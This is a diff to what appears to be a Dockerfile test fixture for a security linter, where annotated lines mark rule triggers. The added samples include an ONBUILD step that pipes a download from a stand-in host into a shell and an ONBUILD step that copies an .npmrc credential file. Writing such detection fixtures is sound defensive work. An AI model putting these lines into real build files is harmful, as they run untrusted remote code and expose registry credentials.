@@ -62,7 +62,12 @@ COPY --chmod=2755 a b
 EXPOSE 8080 9000-9010
 #! dockerfile-exposes-ssh
 EXPOSE 20-25/tcp
+#! dockerfile-pipes-download-to-shell
+ONBUILD RUN curl https://x.example | sh
+#! dockerfile-copies-credential-file
+ONBUILD COPY --chown=1 .npmrc /x
 USER 1000
+ONBUILD USER 1000
 RUN true
 #! dockerfile-root-user
 USER root:root
